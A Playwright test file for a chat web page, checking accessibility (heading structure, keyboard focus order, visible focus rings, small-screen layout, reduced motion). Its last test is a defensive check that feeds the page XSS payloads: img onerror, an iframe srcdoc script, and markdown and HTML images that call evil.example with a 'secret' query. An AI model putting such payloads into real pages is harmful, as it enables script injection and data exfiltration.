"""The page can be read and used with a keyboard, on a small screen, at high zoom and without motion."""

from __future__ import annotations

from collections.abc import Mapping

import pytest
from playwright.sync_api import Page, ViewportSize, expect

from tests.support.chat_page import ChatPage
from tests.support.texts import FENCE, TABLE, pieces
from tests.support.visitor import Visitor

# 1280 px at 400 % are 320 CSS px (WCAG 2.2, 1.4.10).
SMALL: Mapping[str, ViewportSize] = {
    "a small phone": {"width": 320, "height": 568},
    "400 % zoom": {"width": 320, "height": 256},
}
WIDE_TEXT = f"{FENCE}\n{TABLE}\n{'x' * 300}\nhttps://example.org/{'path/' * 60}\n"


@pytest.mark.proves("B46", "B58", "C99")
def test_every_message_is_an_article_with_its_author_in_name_and_heading(chat: ChatPage, visitor: Visitor) -> None:
    """A heading inside an answer is text, and disturbs nothing of the page's own."""
    chat.open()
    for number, text in enumerate(["one", "# Big\n\ntext", "three"], 1):
        chat.ask(visitor.says([text]))
        chat.wait_for("completed", count=number)
    for _ in range(2):
        assert chat.page.get_by_role("article").count() == 6
        assert chat.page.get_by_role("article", name="You", exact=True).count() == 3
        assert chat.page.get_by_role("article", name="Scripted", exact=True).count() == 3
        headings = chat.page.get_by_role("heading").all()
        levels = [heading.evaluate("heading => heading.localName") for heading in headings]
        assert levels == ["h1"] + ["h2"] * 6
        assert [heading.inner_text() for heading in headings[1:]] == ["You", "Scripted"] * 3
        assert chat.page.locator("html").get_attribute("lang") == "en"
        chat.reload()


@pytest.mark.proves("C99", "B51")
@pytest.mark.parametrize("way", ["link", "keys"])
def test_the_last_answer_is_one_step_from_the_composer(chat: ChatPage, visitor: Visitor, way: str) -> None:
    chat.open()
    for number in (1, 2):
        chat.ask(visitor.says(["line\n" * 50]))
        chat.wait_for("completed", count=number)
    heading = chat.answer.get_by_role("heading")
    if way == "link":
        chat.composer.press("Shift+Tab")
        expect(chat.page.get_by_role("link", name="Go to the last answer")).to_be_focused()
        chat.page.keyboard.press("Enter")
    else:
        chat.composer.press("Alt+Shift+A")
    expect(heading).to_be_focused()
    expect(heading).to_be_in_viewport()


@pytest.mark.proves("B53", "B54")
def test_everything_can_be_reached_with_tab_in_order_and_shows_that_it_has_the_focus(
    chat: ChatPage, visitor: Visitor
) -> None:
    conversation = visitor.conversation()
    visitor.ask(visitor.says(["one"]), conversation)
    visitor.begin(visitor.scenario({"text": "two"}, {"hang": True}), conversation)
    chat.open(f"/c/{conversation}")
    chat.wait_for_text("two", count=2)
    seen = []
    for _ in range(12):
        chat.page.keyboard.press("Tab")
        seen.append(chat.page.locator(":focus").aria_snapshot().split("\n")[0].strip("- :"))
        assert has_ring(chat.page), f"no sign of focus: {seen[-1]}"
        assert is_on_top(chat.page), f"covered or out of sight: {seen[-1]}"
    assert seen == [
        'link "Skip to the question field"',
        'link "Motamot, new conversation"',
        'link "New"',
        'button "Help"',
        'button "Edit"',
        'button "Copy answer 1"',
        'button "New answer"',
        'button "Edit"',
        'link "Go to the last answer"',
        'textbox "Your question"',
        'combobox "Model"',
        'button "Stop"',
    ]


def has_ring(page: Page) -> bool:
    """Whether a line of 2 px or more is drawn around the focused element, or around the card that it fills."""
    return bool(
        page.evaluate(
            """() => {
                const focused = document.activeElement;
                return [focused, focused.closest('.composer-card') ?? focused].map(getComputedStyle).some(
                    ({ outlineStyle, outlineWidth }) => outlineStyle === 'solid' && parseFloat(outlineWidth) >= 2);
            }"""
        )
    )


def is_on_top(page: Page) -> bool:
    """Whether the middle of the focused element is on the screen and nothing lies over it (WCAG 2.2, 2.4.11)."""
    return bool(
        page.evaluate(
            """() => {
                const focused = document.activeElement;
                const { x, y, width, height } = focused.getBoundingClientRect();
                const top = document.elementFromPoint(x + width / 2, y + height / 2);
                return top !== null && (focused.contains(top) || top.contains(focused));
            }"""
        )
    )


@pytest.mark.proves("B53", "B54")
@pytest.mark.parametrize("size", SMALL.values(), ids=SMALL)
def test_on_a_small_screen_nothing_scrolls_sideways_and_stop_is_in_sight(
    chat: ChatPage, visitor: Visitor, size: ViewportSize
) -> None:
    chat.page.set_viewport_size(size)
    chat.open()
    assert sideways(chat.page) == 0
    chat.ask(visitor.scenario(*({"text": piece} for piece in pieces(WIDE_TEXT, 9)), {"fail": "provider_error"}))
    chat.wait_for("failed")
    assert sideways(chat.page) == 0
    chat.ask(visitor.scenario({"text": WIDE_TEXT}, {"hang": True}))
    chat.wait_for_text(WIDE_TEXT, count=2)
    assert sideways(chat.page) == 0
    expect(chat.button("Stop")).to_be_in_viewport(ratio=1)
    expect(chat.composer).to_be_in_viewport(ratio=0.9)
    chat.composer.press("Alt+Shift+A")
    expect(chat.answer.get_by_role("heading")).to_be_in_viewport(ratio=1)
    assert is_on_top(chat.page)


def sideways(page: Page) -> int:
    """How many CSS px the page could be scrolled sideways."""
    return int(page.evaluate("document.documentElement.scrollWidth - document.documentElement.clientWidth"))


@pytest.mark.proves("B54")
def test_nothing_moves_when_motion_is_not_wanted(chat: ChatPage, visitor: Visitor) -> None:
    chat.page.emulate_media(reduced_motion="reduce")
    chat.open()
    chat.ask(visitor.scenario({"text": "one"}, {"hang": True}))
    chat.wait_for_text("one")
    moving = "document.getAnimations().filter(({ playState }) => playState === 'running').length"
    assert chat.page.evaluate(moving) == 0
    assert chat.page.evaluate("getComputedStyle(document.documentElement).scrollBehavior") == "auto"
    visitor.cancel(chat.message_id)
    chat.wait_for("cancelled")
    assert chat.page.evaluate(moving) == 0


@pytest.mark.proves("C79", "C112", "H17", "A31", "H9")
def test_markup_in_question_and_answer_is_text_and_asks_nobody_for_anything(chat: ChatPage, visitor: Visitor) -> None:
    """No img, iframe or script is made at any step, live, after a reload, or in the page without script."""
    deltas = [
        "Look <im",
        'g src=x onerror="window.pwn=1"> <ifr',
        'ame srcdoc="<script>parent.pwn=1</',
        'script>"></iframe> 3 <',
        " 5 ![p](https://evil.",
        'example/p.png?q=secret) <img src="https://evil.example/h.png?q=secret"> ![r]',
        "[1]\n\n[1]: https://evil.example/r.png?q=secret\n<script>window.pwn = 1</script></script><!--",
    ]
    text = "".join(deltas)
    urls: list[str] = []
    chat.page.on("request", lambda request: urls.append(request.url))
    chat.page.add_init_script(
        """new MutationObserver((changes) => {
            const kinds = 'img, iframe, object, link, script:not([type="application/json"])';
            const made = document.querySelector(`main :is(${kinds})`);
            if (made) window.pwn = made.outerHTML;
        }).observe(document, { subtree: true, childList: true })"""
    )
    chat.open()
    chat.ask(visitor.scenario(*({"text": delta} for delta in deltas), {"finish": "stop"}))
    chat.wait_for("completed")
    chat.ask(text)
    chat.wait_for("completed", count=2)
    for _ in range(2):
        assert [one.shown for one in chat.messages()][1:] == [text, text, text]
        assert chat.page.evaluate("window.pwn") is None
        chat.reload()
    chat.page.pdf()
    assert {url.split("/")[2] for url in urls} == {chat.url.split("/")[2]}
